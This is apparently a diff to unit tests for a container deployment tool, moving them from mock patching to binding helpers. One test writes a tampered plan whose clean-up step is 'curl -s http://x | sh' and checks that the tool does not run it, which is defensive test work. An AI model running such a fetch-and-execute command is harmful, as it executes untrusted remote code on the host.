@@ -37,6 +37,8 @@ from llmdeploy.release import RELEASE_RE
 from llmdeploy.releaseplan import DECLARED, ReleasePlan
 from llmdeploy.runner import FAILED, OK, HostResult, UnreachableError
 from tests.unit.test_engine import FAKE_DOCKER
+from flows.binding import bind
+from tests.binding import runners
 
 OLD = Path(__file__).resolve().parent.parent / "data" / "plans_before_20"
 NEW_FIELDS = ("signatures", "show_labels", "role_labels")
@@ -138,7 +140,7 @@ def test_an_old_plan_loads_with_what_its_system_declares(path):
     # what the old plan.json had stays its own
     assert plan.stop_cleanup == doc["stop_cleanup"] and plan.drift_env_prefixes == doc["drift_env_prefixes"]
     # and the engine of a restart or rollback of it reads exits with those signatures
-    assert dep.engine_for(cluster, None, Console(quiet=True), True, plan).signatures == plan.signatures
+    assert dep.engine_for(bind(cluster), None, Console(quiet=True), True, plan).signatures == plan.signatures
     # its units, recorded before they carried container specs, have the spec their docker run line says
     for u in plan.units():
         assert u.spec is not None and shlex.join(docker_run(u.spec)) == u.show["container_command"], u.container
@@ -148,8 +150,8 @@ def test_an_old_plan_loads_with_what_its_system_declares(path):
 def test_stop_of_an_old_release_runs_its_own_clean_up_after_its_containers(path, nodes):
     text, doc = _old(path)
     cluster, run = nodes(doc["cluster"], text, doc["release"])
-    with mock.patch.object(lifecycle, "Runner", run):
-        assert lifecycle.stop(cluster, Console(quiet=True), "m", 0) == 0
+    with runners(run):
+        assert lifecycle.stop(bind(cluster), Console(quiet=True), "m", 0) == 0
     cleanups = [cmd for name, _, cmd in run.sent if name == "stop: clean up"]
     want = systems.module_for(doc["system"]).STOP_CLEANUP
     assert cleanups == ([want] * len(cluster.nodes) if want else [])
@@ -164,8 +166,8 @@ def test_status_of_an_old_release_shows_its_systems_labels(path, nodes):
     text, doc = _old(path)
     cluster, run = nodes(doc["cluster"], text, doc["release"])
     con = Console(record=True, width=400)
-    with mock.patch.object(status_flow, "Runner", run):
-        status_flow.status(cluster, con, False, False)
+    with runners(run):
+        status_flow.status(bind(cluster), con, False, False)
     header = next(ln for ln in con.export_text().splitlines() if "host" in ln and "release" in ln)
     for label in LABELS[doc["system"]].values():
         assert label in header
@@ -180,7 +182,7 @@ def test_restart_reads_the_old_plan_and_its_units_attempt_numbers(nodes, tmp_pat
     (logs / f"{unit.container}.attempt-1.log").write_text("x\n")
     (logs / f"{unit.container}.attempt-2.log").write_text("x\n")
     (tmp_path / "base" / "sim-a3" / "ledger.jsonl").write_text("")
-    plan, on = lifecycle._current(run, cluster, "sim-a3-2")
+    plan, on = lifecycle._current(run, bind(cluster), "sim-a3-2")
     assert plan.signatures == systems.signatures("vllm-ascend", cluster) and plan.stop_cleanup == doc["stop_cleanup"]
     earlier = lifecycle._earlier(plan, on)
     # every node shares this machine's directory here: each unit's logs are one unit's
@@ -236,8 +238,8 @@ def test_stop_with_no_readable_plan_stops_the_containers_with_no_clean_up_and_sa
     tampered = dict(json.loads(text), stop_cleanup="curl -s http://x | sh\n")
     cluster, run = nodes("sim-a3", json.dumps(tampered), doc["release"])
     con = Console(record=True, width=400)
-    with mock.patch.object(lifecycle, "Runner", run):
-        assert lifecycle.stop(cluster, con, None, 0) == 0
+    with runners(run):
+        assert lifecycle.stop(bind(cluster), con, None, 0) == 0
     said = con.export_text()
     assert "no readable plan of a current release" in said and "with no clean-up" in said and "stop clean-up" in said
     assert not any(name == "stop: clean up" for name, _, _ in run.sent)
@@ -249,8 +251,8 @@ def test_stop_with_no_current_release_at_all_says_so(nodes, tmp_path):
     cluster, run = nodes("sim-a3", None, "20261101T000000Z-0123abcd")
     (tmp_path / "base" / "sim-a3" / "current").unlink()
     con = Console(record=True, width=400)
-    with mock.patch.object(lifecycle, "Runner", run):
-        assert lifecycle.stop(cluster, con, None, 0) == 0
+    with runners(run):
+        assert lifecycle.stop(bind(cluster), con, None, 0) == 0
     assert "no node has a current release" in con.export_text()
     assert not any(name == "stop: clean up" for name, _, _ in run.sent)
 
